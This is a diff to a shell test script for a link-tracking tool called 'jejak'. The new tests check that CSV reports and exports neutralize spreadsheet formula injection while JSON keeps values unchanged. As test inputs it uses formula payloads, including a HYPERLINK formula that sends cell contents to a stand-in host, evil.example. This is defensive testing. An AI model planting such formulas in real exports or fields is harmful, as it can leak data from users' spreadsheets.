@@ -98,3 +98,34 @@ out=$(jejak --data 2>&1) && fail "--data without a folder accepted"
 out=$(jejak --verbose report 2>&1) && fail "an unknown global option accepted"
 expect_match "$out" "unknown option '--verbose'" "an unknown option is named"
 pass "jejak --data DIR <command> works for every command, like <command> --data DIR"
+
+# ---- CSV cells a spreadsheet would run as formulas -----------------------------------------
+
+# A UTM value, an order id from a shop, a visitor's Accept-Language: text that starts with
+# '=', '+', '-' or '@' gets a leading quote in every CSV; numbers jejak wrote stay numbers.
+export JEJAK_DATA=$WORK/csv
+jejak influencer add dewi --name "Dewi" --platform instagram >/dev/null
+jejak campaign add launch --name "Launch" >/dev/null
+jejak link add --influencer dewi --campaign launch --to https://shop.example/ --slug dewi \
+  --source '=HYPERLINK("http://evil.example/?"&A1,"Click")' --medium '+62812' --content '@SUM(A1)' >/dev/null
+jejak cost add --influencer dewi --campaign launch --amount 500000 --currency IDR >/dev/null
+secret=$(jejak shop add tokoku | sed -n 's/^secret=//p')
+start_daemon
+curl -s -o /dev/null -A "$BROWSER" -H 'Accept-Language: -cmd' -c "$WORK/jar" "$BASE/l/dewi"
+jclid=$(click dewi "$WORK/jar")
+out=$(post '{"shop":"tokoku","click_id":"'"$jclid"'","order_id":"=HYPERLINK(\"http://evil.example\")","amount":"1500.00","currency":"IDR"}' "$secret")
+expect_match "$out" ' 200$' "the postback with a formula order id"
+stop_daemon
+
+csv=$(jejak report --by source --tz UTC --format csv)
+row=$(echo "$csv" | sed -n 2p)
+expect_eq "${row%%,IDR,*}" "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"" "a --source formula in the report CSV"
+expect_match "$row" ',1500\.00,500000\.00,.*,-99\.7[0-9]*,' "negative ROI stays a number"
+expect_eq "$(jejak report --by medium --tz UTC --format csv | sed -n 2p | cut -d, -f1)" "'+62812" "a --medium formula"
+expect_eq "$(jejak report --by content --tz UTC --format csv | sed -n 2p | cut -d, -f1)" "'@SUM(A1)" "a --content formula"
+expect_eq "$(jejak report --by source --tz UTC --format json | jq -r '.rows[0].source')" '=HYPERLINK("http://evil.example/?"&A1,"Click")' "JSON keeps the value as it is"
+conv=$(jejak conversions export --format csv | sed -n 2p)
+expect_match "$conv" "^[0-9A-Z]+,tokoku,\"'=HYPERLINK\(\"\"http://evil.example\"\"\)\",purchase,approved,1500\.00,IDR," "the order id in the conversions CSV"
+expect_eq "$(jejak conversions export | jq -r .order_id)" '=HYPERLINK("http://evil.example")' "the JSON export keeps the order id"
+expect_eq "$(jejak clicks export --format csv | sed -n 2p | cut -d, -f10,11)" "'-cmd,false" "a visitor's language in the clicks CSV"
+pass "formula cells are neutralized in every CSV, numbers stay numbers"
